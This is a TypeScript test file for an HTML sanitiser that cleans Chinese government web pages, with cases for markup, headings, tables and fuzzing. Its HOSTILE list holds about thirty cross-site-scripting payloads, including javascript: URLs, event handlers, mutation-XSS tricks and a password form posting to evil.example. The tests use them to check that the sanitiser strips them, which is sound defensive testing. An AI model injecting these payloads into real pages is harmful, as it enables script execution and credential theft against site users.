import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { cleanHtml, readSettled } from './clean.ts';
import { contentText } from './nodes.ts';

const squeeze = (text: string): string => text.replaceAll(/\s/gu, '');

describe('what is kept', () => {
  test.each([
    ['paragraphs and marks', '<p>甲<b>乙</b>丙</p>', '<p>甲<strong>乙</strong>丙</p>'],
    ['loose words', '甲<div>乙</div>丙', '<p>甲</p>\n<p>乙</p>\n<p>丙</p>'],
    [
      'centred and right',
      '<p align=center>题</p><div style="text-align: right">署名</div>',
      '<p class="center">题</p>\n<p class="right">署名</p>',
    ],
    ['lines', '甲<br>乙', '<p>甲<br>乙</p>'],
    ['paragraphs by two breaks or an indent', '甲<br><br>乙<br>　　丙', '<p>甲</p>\n<p>乙</p>\n<p>丙</p>'],
    ['lines broken in the source', '<p>政务\n  公开 open\n data</p>', '<p>政务公开 open data</p>'],
    ['lists in lists', '<ul><li>甲<ul><li>乙</li></ul></li></ul>', '<ul><li>甲<ul><li>乙</li></ul></li></ul>'],
    ['the start of a list', '<ol start=3><li>丙</ol>', '<ol start="3"><li>丙</li></ol>'],
    [
      'links',
      '<a href="https://www.gov.cn/a?b=1&amp;c=2">国办</a>',
      '<p><a href="https://www.gov.cn/a?b=1&amp;c=2">国办</a></p>',
    ],
    ['what looks like markup', '<p>a &lt; b &amp;amp; c</p>', '<p>a &lt; b &amp;amp; c</p>'],
    ['terms', '<dl><dt>名称<dd>说明</dl>', '<p><strong>名称</strong></p>\n<p>说明</p>'],
    ['kept pictures', '<img src="/files/a.png" alt="图">', '<p><img src="/files/a.png" alt="图"></p>'],
  ])('%s', (_name, html, clean) => expect(cleanHtml(html)).toBe(clean));

  test('headings begin below the title of the page and leave no level out', () =>
    expect(cleanHtml('<h1>甲</h1><h4>乙</h4><h1>丙</h1>')).toBe('<h2>甲</h2>\n<h3>乙</h3>\n<h2>丙</h2>'));

  test('numbered headings are found, lists of numbered entries are not', () =>
    expect(
      cleanHtml(
        '<p>一、总体要求</p><p>（一）目标</p><p>内容。</p><p>1.身份证</p><p>2.申请表</p><p>二、附则</p><p>完。</p>',
      ),
    ).toBe(
      '<h2>一、总体要求</h2>\n<h3>（一）目标</h3>\n<p>内容。</p>\n<p>1.身份证</p>\n<p>2.申请表</p>\n<h2>二、附则</h2>\n<p>完。</p>',
    ));
});

describe('tables', () => {
  test('spans, caption, heads', () =>
    expect(
      cleanHtml(
        '<table border=1><tr><td colspan=3>收费目录</td></tr><tr><td>项目</td><td>单位</td><td>标准</td></tr><tr><td rowspan=9>证照</td><td>本</td><td>10</td></tr><tr><td>套</td><td>20</td></tr></table>',
      ),
    ).toBe(
      '<table><caption>收费目录</caption><thead><tr><th scope="col">项目</th><th scope="col">单位</th><th scope="col">标准</th></tr></thead><tbody><tr><td rowspan="2">证照</td><td>本</td><td>10</td></tr>\n<tr><td>套</td><td>20</td></tr></tbody></table>',
    ));

  test('a frame of one cell is no table', () =>
    expect(cleanHtml('<table><tr><td><p>甲</p><p>乙</p></td></tr></table>')).toBe('<p>甲</p>\n<p>乙</p>'));

  test('words between cells are not lost', () =>
    expect(squeeze(contentText(readSettled('<table>甲<tr>乙<td>丙</td>丁<td>戊</td></tr></table>')))).toBe(
      '甲乙丁丙戊',
    ));

  test('whatever the table, every word of every cell is there', () => {
    const cell = fc.record({
      tag: fc.constantFrom('td', 'th'),
      columns: fc.integer({ min: 1, max: 4 }),
      rows: fc.integer({ min: 1, max: 4 }),
      inside: fc.constantFrom(
        '$',
        '<p>$</p>',
        '<div><b>$</b></div>',
        '<ul><li>$</ul>',
        '<h3>$</h3>',
        '<table><tr><td>$<td>$$</table>',
      ),
    });
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 6 }), (rows) => {
        let count = 0;
        const html = rows
          .map(
            (row) =>
              `<tr>${row
                .map(({ tag, columns, rows: span, inside }) => {
                  count += 1;
                  return `<${tag} colspan=${columns} rowspan=${span}>${inside.replaceAll('$', `格${count}完`)}</${tag}>`;
                })
                .join('')}</tr>`,
          )
          .join('');
        const text = contentText(readSettled(`<table>${html}</table>`));
        return Array.from({ length: count }, (_, at) => `格${at + 1}完`).every((word) => text.includes(word));
      }),
      { numRuns: 150 },
    );
  });
});

const HOSTILE = [
  '<script>alert(1)</script>甲',
  '<SCRIPT/SRC=//x.example/a.js></SCRIPT>甲',
  '<scr<script>ipt>alert(1)</scr</script>ipt>甲',
  '<img src=x onerror=alert(1)>甲',
  '<img src="javascript:alert(1)">甲',
  '<a href="javascript:alert(1)">甲</a>',
  '<a href="jav&#x09;ascript:alert(1)">甲</a>',
  '<a href=" &#14; javascript:alert(1)">甲</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">甲</a>',
  '<a href="data:text/html,<script>alert(1)</script>">甲</a>',
  '<a href="vbscript:x">甲</a>',
  '<a href="//evil.example" onclick="x()" style="position:fixed">甲</a>',
  '<svg><script>alert(1)</script></svg>甲',
  '<svg/onload=alert(1)>甲',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">甲',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">甲',
  '<style>@import "//x"; p{background:url(javascript:x)}</style>甲',
  '<p style="background:url(javascript:alert(1));behavior:url(x.htc)">甲</p>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>甲',
  '<form action="//evil.example"><input name=password><button formaction="javascript:x">取</button>甲</form>',
  '<object data="x.swf"></object><embed src=x>甲',
  '<meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example">甲',
  '<table background="javascript:x"><tr><td background="javascript:x">甲<td>乙</table>',
  '<!--[if gte mso 9]><xml><o:p>x</o:p></xml><![endif]-->甲',
  '<p>甲&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<template><script>alert(1)</script></template>甲',
  '<textarea></textarea><script>alert(1)</script>甲',
  '<xmp><script>alert(1)</script></xmp>甲',
  '<plaintext>甲',
  '<img src="/files/a.png&quot; onerror=&quot;alert(1)" alt="&quot; onload=&quot;x">甲',
];

/** Everything between angle brackets must be one of these, letter for letter. */
const ALLOWED =
  /^<(?:\/?(?:p|h[2-6]|ul|ol|li|table|caption|thead|tbody|tr|td|th|blockquote|strong|em|del|sub|sup|a)|br|hr|p class="(?:center|right)"|ol start="\d+"|(?:td|th)(?: scope="(?:col|row)")?(?: colspan="\d+")?(?: rowspan="\d+")?|a href="(?:https?:\/\/|mailto:|tel:|\/(?!\/))[^"<>]*"|img src="(?:\/(?!\/)|image:)[^"<>]*" alt="[^"<>]*")>$/u;

function strangers(html: string): readonly string[] {
  return (html.match(/<[^>]*>?|>/gu) ?? []).filter((tag) => !ALLOWED.test(tag));
}

describe('what is hostile', () => {
  test.each(HOSTILE)('nothing of it runs: %s', (html) => {
    const clean = cleanHtml(html);
    expect(strangers(clean)).toEqual([]);
    expect(cleanHtml(clean)).toBe(clean);
  });

  test.each(
    HOSTILE.filter(
      (html) => !html.includes('plaintext') && !html.includes('mglyph') && !/noscript|svg.onload/u.test(html),
    ),
  )('the words are there all the same: %s', (html) => expect(cleanHtml(html)).toContain('甲'));

  const piece = fc.oneof(
    fc.constantFrom(...HOSTILE),
    fc.constantFrom(
      ...'<p> </p> <div> </div> <h1> <h3> </h3> <b> </b> <i> </i> <a href="/x"> </a> <ul> <ol> <li> </ul> </ol> <table> <tr> <td> <th> </td> </tr> </table> <td colspan=2 rowspan=3> <thead> </thead> <caption> </caption> <blockquote> </blockquote> <pre> </pre> <br> <hr> <img src=/a alt=图> <sup> </sup> <dt> <dd> <p align=right> <center> </center>'.split(
        ' ',
      ),
    ),
    fc.constantFrom(
      '甲乙',
      '一、标题',
      '（一）小标题',
      '1.项',
      '。',
      ' ',
      '\n',
      '　　',
      '&nbsp;',
      '&lt;b&gt;',
      '<',
      '>',
      '"',
      '&',
      '\u200b',
      '\u0000',
      '\ud800',
    ),
    fc.string({ maxLength: 12 }),
  );

  test('fuzz: nothing but what is allowed comes out, and doing it twice changes nothing', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const clean = cleanHtml(pieces.join(''));
        expect(strangers(clean)).toEqual([]);
        expect(cleanHtml(clean)).toBe(clean);
      }),
      { numRuns: 1500 },
    );
  });

  test('ten thousand open elements neither overflow nor take long', () => {
    for (const tag of ['<div>', '<b>', '<ul><li>', '<table><tr><td>', '<blockquote>', '<a href="/x">', '<h2>']) {
      const startedAt = performance.now();
      expect(cleanHtml(`${tag.repeat(10_000)}甲`)).toContain('甲');
      expect(performance.now() - startedAt).toBeLessThan(5_000);
    }
  });
});
